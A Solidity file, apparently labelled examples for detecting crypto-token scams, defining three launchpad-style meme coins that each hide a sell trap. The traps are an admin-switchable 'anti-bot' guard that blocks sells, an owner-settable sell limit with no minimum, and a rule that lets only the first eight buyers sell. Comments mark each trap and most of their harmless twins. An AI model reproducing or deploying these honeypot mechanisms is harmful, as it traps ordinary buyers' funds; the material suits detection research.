// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// A coin with a pool and an owner, as launchpads make them.
abstract contract LaunchToken {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    IUniswapV2Factory internal constant FACTORY = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f);

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public immutable uniswapV2Pair;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        uniswapV2Pair = FACTORY.createPair(address(this), WETH);
        totalSupply = supply * 1e18;
        _balances[msg.sender] = totalSupply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = _allowances[from][msg.sender];
        require(allowed >= amount, "ERC20: insufficient allowance");
        if (allowed != type(uint256).max) _allowances[from][msg.sender] = allowed - amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) internal {
        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
        unchecked {
            _balances[from] -= amount;
            _balances[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}

/// A service that many coins could share, and one coin does.
contract AntiBotGuard {
    enum Mode {
        Off,
        Watch,
        Protect
    }

    address private immutable _admin;
    Mode public mode;
    mapping(address => bool) public isTrusted;
    mapping(address => address) public marketOf;

    constructor() {
        _admin = msg.sender;
        isTrusted[msg.sender] = true;
    }

    function configure(address token, address market, Mode newMode) external {
        require(msg.sender == _admin, "AntiBot: not admin");
        marketOf[token] = market;
        mode = newMode;
    }

    function setTrusted(address[] calldata accounts, bool trusted) external {
        require(msg.sender == _admin, "AntiBot: not admin");
        for (uint256 i = 0; i < accounts.length; i++) isTrusted[accounts[i]] = trusted;
    }

    function onPreTransferCheck(address from, address to, uint256) external view {
        if (mode != Mode.Protect) return;
        require(to != marketOf[msg.sender] || isTrusted[from], "AntiBot: bot detected");
    }
}

/// Asks the service before each transfer.
contract GuardedShiba is LaunchToken {
    AntiBotGuard public immutable antiBot;
    uint256 public immutable launchedAt;

    constructor(AntiBotGuard guard) LaunchToken("Guarded Shiba", "GSHIB", 1_000_000_000) {
        antiBot = guard;
        launchedAt = block.timestamp;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        antiBot.onPreTransferCheck(from, to, amount); // trap
        // twin: if (block.timestamp < launchedAt + 1 hours) antiBot.onPreTransferCheck(from, to, amount);
        _move(from, to, amount);
    }
}

/// Has a limit for what is sold at once.
contract SteadyPepe is LaunchToken {
    struct Limits {
        uint112 maxBuy;
        uint112 maxSell;
        bool active;
    }

    Limits public limits;

    event LimitsChanged(uint256 maxBuy, uint256 maxSell);

    constructor() LaunchToken("Steady Pepe", "STEPE", 420_690_000) {
        uint112 most = uint112(totalSupply / 50);
        limits = Limits(most, most, true);
    }

    function setLimits(uint112 maxBuy, uint112 maxSell) external onlyOwner {
        require(maxBuy >= totalSupply / 100, "too low");
        // twin: require(maxSell >= totalSupply / 100, "too low");
        (limits.maxBuy, limits.maxSell) = (maxBuy, maxSell);
        emit LimitsChanged(maxBuy, maxSell);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        Limits memory own = limits;
        if (own.active && from != owner && to != owner) {
            if (from == uniswapV2Pair) require(amount <= own.maxBuy, "Buy exceeds the limit");
            if (to == uniswapV2Pair) require(amount <= own.maxSell, "Sell exceeds the limit");
        }
        _move(from, to, amount);
    }
}

/// Numbers its buyers as they come.
contract EarlyFrog is LaunchToken {
    uint32 private constant EARLY = 8;
    uint32 public buyersCount;
    mapping(address => uint32) public buyerNumber;

    constructor() LaunchToken("Early Frog", "EFROG", 69_000_000) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == uniswapV2Pair && buyerNumber[to] == 0) buyerNumber[to] = ++buyersCount;
        if (to == uniswapV2Pair) require(buyerNumber[from] <= EARLY, "TRANSFER_FAILED"); // trap
        _move(from, to, amount);
    }
}
